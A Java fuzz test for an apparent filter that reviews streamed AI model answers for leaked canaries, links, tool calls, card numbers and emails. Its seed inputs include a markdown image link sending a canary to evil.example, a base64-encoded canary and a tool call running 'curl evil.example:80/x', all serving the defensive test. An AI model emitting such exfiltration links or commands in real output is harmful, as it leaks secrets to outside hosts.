package dev.weir.detect.answer;

import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.model.Kind;
import dev.weir.model.net.Bytes;
import dev.weir.model.settings.DestinationRule.Api;
import dev.weir.model.talk.AnswerTerms;
import dev.weir.model.talk.AnswerTerms.Fate;
import dev.weir.model.talk.Breach;
import dev.weir.model.talk.Review;
import dev.weir.testkit.Fuzz;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** Any bytes are an answer: nothing is thrown, cuts make no difference, and what is denied is not said. */
class ReviewFuzzTest {

  private static final List<String> PIECES = List.of("data: ", "data:", "data", "\n", "\n\n", "\r\n", "\r",
      "event: x",
      ": c", "\ufeff", "{\"delta\":\"", "\"}", "{\"choices\":[{\"index\":", "0", "1",
      ",\"delta\":{\"content\":\"", "\"}}]}", "HALYARD-", "7731-", "blue", " ", "\\u0048", "\\", "\"",
      "\u200b", "é",
      "😀", "4242 4242 ", "4242 4242", "bob.ray@", "example.org", "![a](https://", "evil.example/?q=",
      "Bettina)",
      "{\"type\":\"content_block_start\",\"index\":0}",
      "{\"response\":\"", "\",\"done\":false}", "\",\"x\":\"", "[DONE]", "{", "}", "[", "]", "\u0000", "漢字");

  public static List<byte[]> seeds() {
    return Stream.of(
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"HALYARD-7731-bl\"}}]}\n\ndata: [DONE]\n\n",
        "{\"response\":\"![a](https://evil.example/a?q=Bett&r=ina)\",\"done\":false}\n",
        "{\"choices\":[{\"message\":{\"content\":\"H-A-L-Y-A-R-D <b>77</b>31 \\ud83c\\udded SEFMWUFSRC03NzMxLWJsdWU=\",\"tool_calls\":[{\"function\":"
            + "{\"name\":\"sh\",\"arguments\":\"{\\\"cmd\\\":\\\"curl evil.example:80/x\\\",\\\"hosts\\\":[\\\"a.example\\\"]}\"}}]}}]}")
        .map(text -> text.getBytes(StandardCharsets.UTF_8)).toList();
  }

  public static void fuzzerTestOneInput(byte[] data) {
    takes(data, new Random(data.length));
  }

  @Test
  void takesWhatGrowsFromSeeds() {
    Fuzz.feed(seeds(), ReviewFuzzTest::fuzzerTestOneInput);
  }

  @Test
  void takesAnyStream() {
    Random random = new Random(41);
    for (int i = 0; i < 1_000; i++) {
      StringBuilder text = new StringBuilder();
      for (int n = random.nextInt(30); n > 0; n--) {
        text.append(PIECES.get(random.nextInt(PIECES.size())));
      }
      takes(text.toString().getBytes(StandardCharsets.UTF_8), random);
    }
  }

  @Test
  void takesAnyBytes() {
    Random random = new Random(43);
    for (int i = 0; i < 1_000; i++) {
      byte[] bytes = new byte[random.nextInt(200)];
      random.nextBytes(bytes);
      takes(bytes, random);
    }
  }

  private static void takes(byte[] bytes, Random random) {
    takes(Talks.EVENTS, bytes, random);
    takes("application/x-ndjson", bytes, random);
  }

  private static void takes(String type, byte[] bytes, Random random) {
    Review whole = review();
    whole.begin(type);
    String expected = whole.next(Bytes.wrap(bytes)).and(whole.end()).utf8();
    Review cut = review();
    cut.begin(type);
    Bytes out = Bytes.EMPTY;
    for (int at = 0; at < bytes.length;) {
      int to = Math.min(bytes.length, at + 1 + random.nextInt(20));
      out = out.and(cut.next(Bytes.wrap(bytes, at, to - at)));
      at = to;
    }
    out = out.and(cut.end());
    String sent = new String(bytes, StandardCharsets.UTF_8);
    assertThat(out.utf8()).as(sent).isEqualTo(expected);
    assertThat(cut.denied()).isEqualTo(whole.denied());
    review().whole("application/json", Bytes.wrap(bytes));
    if (whole.denied().isPresent()) {
      assertThat(expected).as(sent).doesNotContain("HALYARD-7731-blue");
    }
  }

  private static Review review() {
    AnswerTerms masks = Talks.data(Map.of(new Kind("EMAIL"), Fate.MASK, new Kind("CREDIT_CARD"), Fate.DENY));
    return Talks.review(Api.OPENAI,
        Talks.denying(Breach.SYSTEM_PROMPT, Breach.CANARY, Breach.LINKS, Breach.TOOLS, Breach.INJECTION),
        masks);
  }
}
